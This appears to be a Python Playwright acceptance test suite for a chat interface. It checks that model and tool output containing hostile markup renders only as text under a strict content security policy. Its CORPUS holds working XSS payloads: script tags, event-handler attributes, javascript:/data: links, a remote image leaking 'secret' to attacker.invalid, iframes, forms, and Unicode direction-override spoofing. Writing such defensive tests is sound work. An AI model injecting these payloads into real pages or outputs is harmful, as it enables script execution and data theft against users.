"""Models and tools are not trusted: whatever they say is shown, and nothing of it runs, loads or leads away unasked.

That no request leaves the origin and that no script of theirs ran is asserted in every test of this folder.
"""

from __future__ import annotations

import json
from collections.abc import Iterator

import pytest
from playwright.sync_api import expect

from tests.acceptance.conftest import ServerProcess
from tests.acceptance.panel.conftest import Person, new_server, served, until

CORPUS = {
    "script": "<script>document.title='owned'</script>",
    "handlers": "<img src=x onerror=\"document.title='owned'\"> <svg onload=\"document.title='owned'\"></svg>",
    "script links": "[a](javascript:document.title='owned') [b](data:text/html,<script>1</script>) <a href='vbscript:x'>c</a>",
    "reference to script": "[click][d]\n\n[d]: javascript:document.title='owned'",
    "remote images": "![a](https://attacker.invalid/?q=secret) ![b][i]\n\n[i]: http://attacker.invalid/i.png",
    "frames and styles": "<style>*{display:none}</style><iframe srcdoc='<script>1</script>'></iframe><link rel=stylesheet href=//x.invalid>",
    "forms": "<form action=https://attacker.invalid><input name=a autofocus onfocus=\"document.title='owned'\"></form>",
    "forged page": "<div id=root class=primary data-card=x role=log>fake</div> &lt;b&gt; &amp;nbsp; &copy;",
    "broken markdown": "```\n**[x](\n| a |\n|--\n> > > `` ` [[[ ![](<\n***_",
    "open fence": "```python\nprint('never closed')\n",
    "turned text": "\u202etxt.exe\u202c and \u2066hidden\u2069",
    "megabyte line": "x" * 900_000,
    "nested quotes": ">" * 2_000 + " deep",
    "nested lists": "\n".join("  " * n + f"- item {n}" for n in range(900)),
    "brackets": "[" * 20_000,
    "wide table": "|a" * 300 + "|\n" + "|-" * 300 + "|\n" + ("|1" * 300 + "|\n") * 20,
}


LARGE = ("megabyte line", "nested lists", "brackets")
SWALLOWING = "broken markdown"
TOGETHER = "\n\n".join(
    CORPUS[case] for case in [*sorted(CORPUS.keys() - {SWALLOWING, "open fence", *LARGE}), SWALLOWING]
)
"""What is hostile by what it says, in one answer, and last what takes all that follows for its own."""


@pytest.fixture(scope="module")
def steady(shape: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[ServerProcess]:
    """Its model does not dawdle over thousands of words."""
    yield from served(new_server(tmp_path_factory.mktemp("page"), shape, PERDURE_DEMO_TOKEN_SECONDS="0"))


def test_all_that_is_hostile_in_one_answer_is_text(person: Person) -> None:
    _is_text(person, TOGETHER)


@pytest.mark.parametrize(
    "case", [pytest.param(case, marks=[] if case in LARGE else pytest.mark.proof) for case in CORPUS]
)
def test_an_answer_is_text(person: Person, case: str) -> None:
    _is_text(person, CORPUS[case])


def _is_text(person: Person, text: str) -> None:
    said = person.server.say(f"/say {text}")
    person.server.until(said["turn"], "completed")
    page = person.open(f"/c/{said['conversation']}")
    until(page, "completed")
    log = page.get_by_role("log")
    expect(log.get_by_label("Agent")).to_have_count(1)
    assert page.title() != "owned"
    assert log.locator("script, img, svg, iframe, style, form, link, object, embed").count() == 0
    targets = log.locator("a").evaluate_all("links => links.map(each => new URL(each.href).protocol)")
    assert set(targets) <= {"http:", "https:", "mailto:"}
    page.get_by_label("Message", exact=True).fill("the page still listens")


def test_arguments_and_results_of_tools_and_titles_are_text(person: Person) -> None:
    cases = ["script", "handlers", "remote images", "turned text"]
    asked = [json.dumps({"label": CORPUS[case]}) for case in cases]
    page = person.say("\n".join(f"/call slow_step {each}" for each in asked))
    until(page, "completed")
    cards = page.locator("details[data-state=done]")
    expect(cards).to_have_count(len(cases))
    for n in range(len(cases)):
        cards.nth(n).locator("summary").click()
        expect(cards.nth(n).get_by_role("heading", name="Result")).to_be_visible()
    assert page.title() != "owned"
    assert page.locator("main img, main script, main iframe, main svg").count() == 0
    assert "\u202e" not in page.locator("body").inner_text()
    page.get_by_role("link", name="Turn", exact=True).click()
    calls = page.locator("main section > details > summary")
    expect(calls).to_have_count(len(cases))
    for n in range(len(cases)):
        calls.nth(n).click()
    page.locator("summary:has(h2)").click()
    for n in range(2):
        page.locator("details[data-own=true] > summary").nth(n).click()
    expect(page.locator("[data-kind=added] pre")).not_to_have_count(0)
    expect(page.locator("main pre").filter(has_text="attacker.invalid")).not_to_have_count(0)
    assert page.locator("main img, main script, main iframe, main svg").count() == 0
    assert "\u202e" not in page.locator("body").inner_text()


def test_the_policy_holds_on_every_view(person: Person) -> None:
    for path in ("/", "/turns", "/approvals", "/server", "/c/unknown"):
        reply = person.page.goto(f"{person.address}{path}")
        assert reply is not None
        policy = reply.header_value("content-security-policy") or ""
        assert "default-src 'self'" in policy
        assert "unsafe" not in policy
        expect(person.page.get_by_role("main")).to_be_visible()
